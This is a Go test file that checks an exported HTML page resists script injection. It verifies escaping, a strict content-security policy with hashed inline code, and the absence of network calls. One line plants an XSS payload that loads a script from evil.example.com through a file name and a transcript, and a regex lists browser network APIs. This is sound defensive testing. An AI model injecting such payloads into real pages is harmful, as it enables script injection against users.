package page

import (
	"crypto/sha256"
	"encoding/base64"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/operetta-dev/operetta/internal/lab/run"
)

// namespaces are names, and nobody asks for them.
var namespaces = regexp.MustCompile(`"?http://www\.w3\.org/(2000/svg|1999/xhtml|1999/xlink|1998/Math/MathML|2000/xmlns/|XML/1998/namespace)"?`)

// TestAnExportedFileAsksNobody: it has all that it shows, and its policy allows nothing else.
func TestAnExportedFileAsksNobody(t *testing.T) {
	evil := "</script><script src=http://evil.example.com/></script>"
	happened := &Run{Run: run.Run{Transcript: evil, Error: "<!--<script>"}}
	page, err := HTML(Scenario{Files: []File{{Name: evil, Text: "planted"}}}, happened)
	require.NoError(t, err)
	require.NotContains(t, page, "planted")
	require.Equal(t, 2, strings.Count(page, "</script>"))
	require.NotContains(t, page, "<!--")

	head, body, _ := strings.Cut(page, "</head>")
	require.Contains(t, head, "default-src 'none'")
	require.NotContains(t, head, "unsafe")
	for kind, part := range map[string]string{
		"style":  regexp.MustCompile(`(?s)<style>(.*)</style>`).FindStringSubmatch(head)[1],
		"script": body[strings.LastIndex(body, "<script>")+8 : strings.LastIndex(body, "</script>")],
	} {
		sum := sha256.Sum256([]byte(part))
		require.Contains(t, head, kind+"-src 'sha256-"+base64.StdEncoding.EncodeToString(sum[:])+"'")
	}

	empty, err := HTML(Scenario{}, &Run{})
	require.NoError(t, err)
	require.NotRegexp(t, `https?://`, namespaces.ReplaceAllString(empty, ""))
	require.NotRegexp(t, `\b(src|href)=|@import|url\(\s*["']?[^d"']|\bfetch\(|XMLHttpRequest|WebSocket|EventSource|sendBeacon|\bimport\(`, empty)
}

func TestTheBundleIsWhole(t *testing.T) {
	for _, name := range []string{"index.html", "play.js", "play.css", "player.js", "player.css"} {
		content := text(name)
		require.NotEmpty(t, content, name)
		require.NotContains(t, content, "sourceMappingURL", name)
	}
	require.NotContains(t, strings.ToLower(text("player.js")), "</script")
	require.NotContains(t, strings.ToLower(text("player.css")), "</style")
}
